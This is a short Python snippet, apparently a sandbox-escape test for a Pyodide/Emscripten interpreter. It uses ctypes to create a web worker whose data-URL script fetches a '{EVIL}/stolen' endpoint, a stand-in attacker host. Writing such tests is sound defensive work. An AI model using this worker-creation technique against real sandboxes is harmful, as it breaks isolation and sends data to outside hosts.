# Tries to make a worker with a function that is linked into the interpreter, by ctypes.
import ctypes

print("tried")
script = f"data:text/javascript,fetch('{EVIL}/stolen',{{mode:'no-cors'}})"
ctypes.CDLL(None).emscripten_create_worker(script.encode())
await asyncio.sleep(0.5)
